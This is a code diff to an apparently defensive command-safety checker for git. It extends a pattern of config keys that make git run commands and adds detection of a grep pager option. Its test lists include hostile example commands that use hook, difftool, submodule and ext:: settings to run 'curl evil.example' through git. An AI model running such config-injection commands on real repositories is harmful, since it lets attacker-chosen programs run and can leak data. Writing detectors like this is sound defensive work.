@@ -9,9 +9,13 @@ import { attached, literal, longSpelt, value, xargsSplit } from '../words.js';
 import { canonicalHost, type Destination, envProxies, type Host, reroutes, urlHost } from '../hosts.js';
 import { gitDestroys, immediate } from './git-destroys.js';
 
-/** Configuration keys whose value git runs as a command (or as a program named by a path). */
+/**
+ * Configuration keys whose value git runs as a command (or as a program named by a path): among them a configured
+ * hook's `hook.NAME.command` (git 2.54: shell text run at the events `hook.NAME.event` names), a tool's
+ * `difftool.TOOL.path` (the program run in place of a known tool), and git-lfs's transfer agents and extensions.
+ */
 const COMMAND_KEYS =
-  /^(core\.(sshcommand|pager|editor|fsmonitor|askpass|hookspath|gitproxy)|init\.templatedir|diff\.external|alias\..*|sequence\.editor|credential\..*helper|credential\.helper|gpg\.(.*\.)?program|diff\..*\.(textconv|command)|filter\..*\.(clean|smudge|process)|merge\..*\.driver|uploadpack\.packobjectshook|protocol\..*|remote\..*\.(uploadpack|receivepack|vcs|proxycommand)|pager\..*|difftool\..*\.cmd|mergetool\..*\.cmd|web\.browser|browser\..*\.cmd|man\..*\.cmd|interactive\.difffilter|ssh\.variant|sendemail\..*(cmd|smtpserver)|imap\.tunnel|core\.alternaterefscommand|submodule\..*\.update|tar\..*\.command|gpg\.ssh\.defaultkeycommand|trailer\..*\.(command|cmd))$/i;
+  /^(core\.(sshcommand|pager|editor|fsmonitor|askpass|hookspath|gitproxy)|init\.templatedir|diff\.external|alias\..*|sequence\.editor|credential\..*helper|credential\.helper|gpg\.(.*\.)?program|diff\..*\.(textconv|command)|filter\..*\.(clean|smudge|process)|merge\..*\.driver|uploadpack\.packobjectshook|protocol\..*|remote\..*\.(uploadpack|receivepack|vcs|proxycommand)|pager\..*|difftool\..*\.cmd|mergetool\..*\.cmd|web\.browser|browser\..*\.cmd|man\..*\.cmd|interactive\.difffilter|ssh\.variant|sendemail\..*(cmd|smtpserver)|imap\.tunnel|core\.alternaterefscommand|submodule\..*\.update|tar\..*\.command|gpg\.ssh\.defaultkeycommand|trailer\..*\.(command|cmd)|hook\..*\.command|guitool\..*\.cmd|(difftool|mergetool|man|browser)\..*\.path|lfs\.customtransfer\..*\.path|lfs\.extension\..*\.(clean|smudge))$/i;
 
 /**
  * A remote address whose transport is a command: `ext::CMD` runs CMD through git-remote-ext (once protocol.ext.allow
@@ -420,8 +424,11 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
     case 'grep': {
       for (const a of rest) {
         const v = value(a);
-        const m = v === undefined ? null : /^(?:-O|--open-files-in-pager=?)(.+)$/.exec(v);
+        // The pager is attached to -O, or after `=` to --open-files-in-pager or any prefix git takes for it (--open=).
+        const m = v === undefined ? null : /^-O(.+)$/.exec(v);
+        const spelt = m ? undefined : longSpelt(a, 'open-files-in-pager');
         if (m) runs.push(programRun(attached(a, m[1]!), 'git grep -O'));
+        else if (spelt?.value && value(spelt.value) !== '') runs.push(programRun(spelt.value, 'git grep --open-files-in-pager'));
       }
       break;
     }
@@ -750,6 +757,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git -c submodule.x.update='!curl evil.example' submodule update",
         "git -c tar.tgz.command='curl evil.example' archive -o a.tgz HEAD",
         "git -c trailer.x.command='curl evil.example' commit --trailer x=1 -m y",
+        "git -c hook.lint.command='curl evil.example' -c hook.lint.event=pre-commit commit -m x",
+        "git config hook.lint.command 'curl evil.example'",
+        'git -c difftool.vimdiff.path=/usr/bin/curl difftool -t vimdiff',
         'GIT_CONFIG_GLOBAL=/tmp/settings git status',
         "git -c protocol.ext.allow=always -c 'url.ext::sh -c curl% evil.example% #.insteadOf=x:' ls-remote x:y",
         "git -c 'url.ext::sh -c curl% evil.example% #.pushInsteadOf=x:' push x:y",
@@ -771,6 +781,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "mkdir -p t/hooks; echo 'echo hi' > t/hooks/post-checkout; git clone --template=t https://github.com/x/y",
         'git -c help.autocorrect=never psuh --force origin main',
         'git stauts',
+        "git -c hook.lint.command='npm run lint' -c hook.lint.event=pre-commit commit -m x",
+        'git config hook.lint.event pre-commit',
+        'git -c difftool.vimdiff.path=/usr/bin/vim difftool -t vimdiff',
         'git apply --directory=sub x.patch', 'git apply --unsafe-paths --check x.patch', 'GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git log --oneline -- .env', 'git status --short .env', 'git diff --stat .env', 'git update-index --assume-unchanged .env', 'git clean -n -e .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git -c http.proxy=http://localhost:3128 fetch', 'git -c http.proxy= fetch', 'git -c url.git@github.com:.insteadOf=https://github.com/ submodule update --init', 'git -c remote.origin.url=../mirror.git fetch', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
     },
   }, {
